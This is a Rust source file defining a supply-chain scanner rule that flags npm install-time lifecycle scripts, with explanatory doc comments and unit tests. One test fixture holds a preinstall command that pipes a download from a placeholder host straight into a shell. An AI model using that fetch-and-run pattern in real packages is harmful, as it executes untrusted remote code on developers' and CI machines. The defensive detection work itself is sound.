//! `install-script`: commands npm runs when the package is installed.

use crate::declare_rule;
use crate::engine::file_start;
use crate::install_script::{inline_code, is_implicit};
use crate::rule::{FindingExt, Rule, RuleContext, RuleMeta};
use ferret_core::{Excerpt, Finding, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports each npm lifecycle script that runs on install — `preinstall`, `install`,
    /// `postinstall`, and `prepare` (run for git installs) — and npm's implicit
    /// `node-gyp rebuild` for packages with a `binding.gyp`. The finding shows the command and
    /// the package files it runs; those files, and everything they `require` through relative
    /// paths, are marked as install-time code.
    ///
    /// ## Why is this a risk?
    /// Install scripts run with the installing user's rights the moment the package is
    /// installed, before anyone imports it, on developer machines and CI runners full of
    /// credentials. Most npm malware runs from `preinstall` or `postinstall`.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "postinstall": "node ./lib/build.js" } }
    /// ```
    ///
    /// ## False positives
    /// Packages with native addons or platform binaries (`esbuild`, `sharp`, `node-gyp`
    /// builds) need install scripts. The finding is informational; what the install-time code
    /// does is judged by the other rules.
    ///
    /// ## References
    /// - npm docs, "scripts": lifecycle operation order
    /// - Socket alert `installScripts`; GuardDog `threat-npm-preinstall-script`
    InstallScript, id = "install-script", category = Capability, severity = Low, action = Info,
}

impl Rule for InstallScript {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        for script in &pkg.install_scripts {
            let implicit = is_implicit(script);
            let message = if implicit {
                format!("npm runs `{}` for `binding.gyp` on install", script.command)
            } else {
                format!(
                    "`{}` script runs `{}`",
                    script.hook,
                    one_line(&script.command)
                )
            };
            let location = script
                .location
                .clone()
                .unwrap_or_else(|| file_start("package.json"));
            // The use the engine recorded for this hook carries the excerpt of the manifest.
            let code = pkg
                .file(&location.path)
                .and_then(|f| {
                    f.uses
                        .iter()
                        .find(|u| u.api == format!("install:{}", script.hook))
                })
                .map_or_else(
                    || Excerpt {
                        line: location.line,
                        text: one_line(&script.command),
                        highlight_start: 0,
                        highlight_len: 1,
                    },
                    |u| u.code.clone(),
                );
            let mut finding = Finding::of(&Self::META, message)
                .primary(&location, &code, format!("`{}` hook", script.hook))
                .install_time(true)
                .evidence("hook", script.hook.clone())
                .evidence("command", script.command.clone())
                .evidence("commands", script.commands.clone())
                .evidence("runs_files", script.runs_files.clone())
                .evidence("implicit", implicit);
            let inline = inline_code(&script.commands);
            if !inline.is_empty() {
                finding = finding.evidence("inline_code", inline);
            }
            for path in &script.runs_files {
                finding = finding.related(&file_start(path), None, "run at install time");
            }
            cx.report(finding);
        }
    }
}

/// The command on one line, cut to fit an excerpt.
fn one_line(command: &str) -> String {
    let flat: String = command
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(Excerpt::MAX_CHARS)
        .collect();
    flat.replace('`', "'")
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn install_script() {
        let pass = [
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","scripts":{"test":"node t.js","build":"tsc"}}"#,
            ),
            ("index.js", "module.exports = 'postinstall';"),
        ];
        let fail = [
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
            ),
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl https://example.invalid | sh"}}"#,
            ),
            ("binding.gyp", "{ 'targets': [] }"),
        ];
        Tester::new(super::InstallScript)
            .pass(pass)
            .fail(fail)
            .test_and_snapshot();
    }

    #[test]
    fn one_finding_per_hook_with_run_files() {
        let findings = Tester::new(super::InstallScript).findings([
            (
                "package.json",
                "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"console.log(1)\\\"\",\n    \"postinstall\": \"node lib/install.js\"\n  }\n}\n",
            ),
            ("lib/install.js", "require('./util');"),
            ("lib/util.js", "module.exports = 1;"),
        ]);
        assert_eq!(findings.len(), 2, "{findings:#?}");
        let post = findings
            .iter()
            .find(|f| f.message.contains("postinstall"))
            .unwrap();
        assert_eq!(
            post.message,
            "`postinstall` script runs `node lib/install.js`"
        );
        let loc = post.location.as_ref().unwrap();
        assert_eq!(
            (loc.path.as_str(), loc.line, loc.column),
            ("package.json", 6, 5)
        );
        assert!(post.install_time);
        assert_eq!(post.related.len(), 1);
        assert_eq!(post.related[0].location.path, "lib/install.js");
        let pre = findings
            .iter()
            .find(|f| f.message.contains("preinstall"))
            .unwrap();
        assert_eq!(
            pre.evidence["inline_code"],
            serde_json::json!(["console.log(1)"])
        );
    }
}
